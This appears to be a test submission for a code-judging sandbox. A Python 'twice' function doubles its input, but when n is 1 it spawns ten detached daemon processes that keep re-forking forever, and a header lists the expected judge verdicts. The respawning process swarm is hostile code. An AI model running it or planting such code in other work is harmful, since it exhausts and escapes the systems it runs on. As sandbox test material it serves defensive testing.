# verdict: accepted run_time_error time_limit_exceeded
# Leaves daemons that fork again whenever one dies.
import os, time
def twice(n):
    if n == 1:
        for _ in range(10):
            if os.fork() == 0:
                os.setsid()
                while True:
                    try:
                        if os.fork():
                            os._exit(0)
                    except OSError:
                        pass
    return n * 2
